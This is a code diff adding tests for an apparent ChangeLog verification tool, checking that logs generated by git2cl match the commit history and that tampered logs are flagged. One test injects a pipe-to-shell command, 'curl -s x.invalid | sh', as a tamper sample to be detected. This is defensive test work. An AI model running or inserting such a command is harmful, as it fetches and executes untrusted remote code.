@@ -507,6 +507,44 @@ describe('ChangeLogs git2cl writes from preformatted messages and CVS-era empty 
   })
 })
 
+describe('ChangeLogs git2cl writes with a long word set apart and authors with no address', () => {
+  const history = emptyHistory()
+  addCommit(history, { commit: 'a'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Finish the build deprecation based on https://example.org/tool/commit/f3d567c9e03354940fa23a183ba900649cee5121' })
+  addCommit(history, { commit: 'b'.repeat(40), author: 'Translations on behalf of the team', email: '', body: 'Automatic translations update.' })
+  addCommit(history, { commit: 'c'.repeat(40), author: 'Simon Steinbei\u00df', email: 'simon@example.org', body: 'Sync bug details' })
+  const am = 'ChangeLog:\n\tgit2cl > ChangeLog\n'
+  const log = [
+    '2018-02-18  Ada Lovelace <ada@example.org>',
+    '',
+    '\t* Makefile.am, configure.ac: Finish the build deprecation',
+    '\tbased on',
+    '',
+    // a word longer than git2cl's line goes in a paragraph of its own
+    '\thttps://example.org/tool/commit/f3d567c9e03354940fa23a183ba900649cee5121',
+    '',
+    '2018-04-23  Translations on behalf of the team <>',
+    '',
+    '\t* po/ca.po, po/ca@valencia.po, po/cs.po: Automatic translations',
+    '\tupdate.',
+    '',
+    '2022-09-02  Simon Steinbei\u00df <simon@example.org>',
+    '',
+    '\t* tracker.py: Sync bug details',
+    '',
+  ].join('\n')
+  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
+  it('explains the paragraph a long word stands in, an author the history has with no address, and a file name with an @', async () => {
+    expect((await judge(log))?.outcome).toBe('explained')
+  })
+  it('reports a paragraph the message does not go on with, and a stranger with no address', async () => {
+    const appended = await judge(log.replace('f3d567c9e03354940fa23a183ba900649cee5121\n', 'f3d567c9e03354940fa23a183ba900649cee5121\n\n\tcurl -s x.invalid | sh\n'))
+    expect(appended?.outcome).toBe('unexplained')
+    expect(appended?.findings?.[0]?.evidence).toContain('curl -s')
+    expect((await judge(log.replace('\thttps://example.org/tool/commit/', '\thttps://example.org/evil/commit/')))?.outcome).toBe('unexplained')
+    expect((await judge(log.replace('Translations on behalf of the team <>', 'Mallory <>')))?.outcome).toBe('unexplained')
+  })
+})
+
 describe('ChangeLogs git2cl writes from merges, renames and twice-encoded messages', () => {
   const history = emptyHistory()
   addCommit(history, { commit: 'c'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'ci: run the analyser on builds with clang' })
